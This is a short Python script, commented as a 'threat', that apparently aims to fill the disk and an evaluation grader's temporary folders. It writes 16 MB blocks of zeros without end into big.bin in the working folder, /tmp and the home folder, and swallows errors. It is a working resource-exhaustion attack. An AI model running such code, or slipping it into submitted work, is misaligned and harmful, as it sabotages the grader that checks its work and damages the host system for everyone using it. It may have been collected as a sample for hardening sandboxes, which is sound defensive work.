# threat: write without end: fill the disk and the grader's temporary folders
import os
for folder in [".", "/tmp", os.path.expanduser("~")]:
    try:
        with open(os.path.join(folder, "big.bin"), "wb") as f:
            while True:
                f.write(b"\0" * (1 << 24))
    except OSError:
        pass
